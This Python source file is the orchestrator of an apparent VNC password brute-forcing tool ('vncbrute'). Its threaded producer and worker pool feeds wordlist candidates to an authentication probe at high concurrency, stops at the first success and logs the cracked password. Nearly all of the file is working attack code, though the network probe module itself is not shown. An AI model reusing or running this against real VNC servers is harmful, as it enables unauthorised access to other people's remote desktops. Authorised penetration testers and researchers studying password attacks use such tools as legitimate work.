"""
Concurrent dictionary attack orchestrator.

A producer thread feeds candidates from the credential source into a
bounded queue; a fixed pool of worker threads pulls from it and runs one
authentication probe per candidate. The first worker to succeed claims
the run-scoped found flag and cancels everybody else.
"""

import threading
from concurrent.futures import ThreadPoolExecutor, as_completed
from dataclasses import dataclass
from queue import Queue, Empty, Full
from typing import Callable, Optional

from vncbrute.core.interfaces import (
    IAuthProbe, ICredentialSource, AttemptResult, AttemptOutcome, RunResult
)
from vncbrute.core.exceptions import ConfigurationError
from vncbrute.services.progress import ProgressTracker
from vncbrute.utils.logger import Logger


POLL_INTERVAL = 0.1

# end-of-stream marker, recirculated so every worker sees it
_END = object()


@dataclass
class AttackConfig:
    """Configuration for the brute force run."""
    concurrency: int = 100
    timeout: float = 3.0  # per attempt, passed to every probe call
    verbose: bool = False
    queue_size: Optional[int] = None  # defaults to concurrency


class RunState:
    """
    State shared by all workers of a single run.

    The found flag moves from unset to set at most once; the cancel event
    is the broadcast stop signal for workers and the producer.
    """

    def __init__(self, progress: ProgressTracker):
        self._lock = threading.Lock()
        self._found = False
        self.password: Optional[str] = None
        self.cancel_event = threading.Event()
        self.progress = progress

    @property
    def found(self) -> bool:
        with self._lock:
            return self._found

    @property
    def stopped(self) -> bool:
        return self.cancel_event.is_set() or self.found

    def try_mark_found(self, password: str) -> bool:
        """
        Compare-and-set the found flag.

        Returns:
            True for exactly one caller per run; that caller owns the result
        """
        with self._lock:
            if self._found:
                return False
            self._found = True
            self.password = password
            return True

    def cancel(self) -> None:
        self.cancel_event.set()


class BruteForcer:
    """
    Runs W workers against one target until a password works or the
    wordlist runs out.

    Cancellation is checked between attempts. A probe already waiting on
    the network when the run is cancelled finishes or times out on its
    own, so shutdown takes at most one probe timeout.

    Example:
        >>> probe = VncAuthProbe("10.0.0.5", 5900, timeout=3)
        >>> source = CredentialSource("words.txt")
        >>> result = BruteForcer(probe, source, AttackConfig(concurrency=50), logger).run()
        >>> result.password
        'secret'
    """

    def __init__(
        self,
        probe: IAuthProbe,
        source: ICredentialSource,
        config: AttackConfig,
        logger: Logger,
        progress: Optional[ProgressTracker] = None,
        on_found: Optional[Callable[[str], None]] = None
    ):
        """
        Initialize brute forcer.

        Args:
            probe: Performs one authentication attempt per call
            source: Candidate password stream
            config: Worker count and timeouts
            logger: Logger instance
            progress: Tracker to update; a fresh one is created per run if omitted
            on_found: Called once, from the winning worker, with the password
        """
        self.probe = probe
        self.source = source
        self.config = config
        self.logger = logger
        self.progress = progress
        self.on_found = on_found

    def run(self) -> RunResult:
        """
        Execute the attack.

        Returns:
            RunResult with the found password, or None when exhausted

        Raises:
            ConfigurationError: If the worker count or timeout is invalid
                or the wordlist cannot be read
        """
        workers = self.config.concurrency
        if workers < 1:
            raise ConfigurationError(f"Concurrency must be at least 1, got {workers}")
        if self.config.timeout <= 0:
            raise ConfigurationError(f"Timeout must be positive, got {self.config.timeout}")

        progress = self.progress or ProgressTracker()
        progress.set_total(self.source.count())
        state = RunState(progress)

        queue: Queue = Queue(maxsize=self.config.queue_size or workers)

        self.logger.info(
            f"Starting attack: {progress.total} candidates, {workers} workers, "
            f"timeout {self.config.timeout}s"
        )

        feeder = threading.Thread(
            target=self._feed, args=(queue, state), name="credential-feeder", daemon=True
        )
        feeder.start()

        try:
            with ThreadPoolExecutor(max_workers=workers, thread_name_prefix="vnc-worker") as executor:
                futures = [executor.submit(self._worker, queue, state) for _ in range(workers)]
                try:
                    for future in as_completed(futures):
                        exc = future.exception()
                        if exc is not None:
                            self.logger.error(f"Worker stopped unexpectedly: {exc}")
                except BaseException:
                    # Ctrl-C: stop the workers before the executor joins them
                    state.cancel()
                    raise
        finally:
            state.cancel()
            feeder.join()

        snapshot = progress.snapshot()
        result = RunResult(
            password=state.password,
            completed=snapshot.completed,
            total=snapshot.total,
            failures=snapshot.failures,
            connection_errors=snapshot.connection_errors,
            elapsed=snapshot.elapsed
        )

        if result.found:
            self.logger.info(f"Run finished: password found after {result.completed} failed attempts")
        else:
            self.logger.info(
                f"Run finished: exhausted {result.completed}/{result.total} candidates "
                f"({result.connection_errors} connection errors)"
            )
        return result

    def _feed(self, queue: Queue, state: RunState) -> None:
        """Producer: move candidates from the source into the queue."""
        try:
            for password in self.source.stream(state.cancel_event):
                if not self._put(queue, password, state):
                    return
        except Exception as e:
            self.logger.error(f"Password stream failed: {e}")
        self._put(queue, _END, state)

    def _put(self, queue: Queue, item, state: RunState) -> bool:
        """Blocking put that gives up once the run is cancelled."""
        while not state.cancel_event.is_set():
            try:
                queue.put(item, timeout=POLL_INTERVAL)
                return True
            except Full:
                continue
        return False

    def _worker(self, queue: Queue, state: RunState) -> None:
        while not state.stopped:
            try:
                password = queue.get(timeout=POLL_INTERVAL)
            except Empty:
                continue

            if password is _END:
                queue.put(_END)
                return
            if state.stopped:
                return

            result = self._attempt(password)

            if result.is_success:
                if state.try_mark_found(password):
                    self.logger.info(f"[+] Password found: {password}")
                    state.cancel()
                    if self.on_found is not None:
                        self.on_found(password)
                return

            state.progress.increment(result.outcome)
            if self.config.verbose:
                self.logger.info(
                    f"[-] '{password}': {result.outcome.value}"
                    + (f" ({result.reason})" if result.reason else "")
                )

    def _attempt(self, password: str) -> AttemptResult:
        try:
            return self.probe.attempt(password, timeout=self.config.timeout)
        except Exception as e:
            self.logger.error(f"Probe raised for '{password}': {e}")
            return AttemptResult(
                password=password,
                outcome=AttemptOutcome.CONNECTION_ERROR,
                reason=str(e)
            )
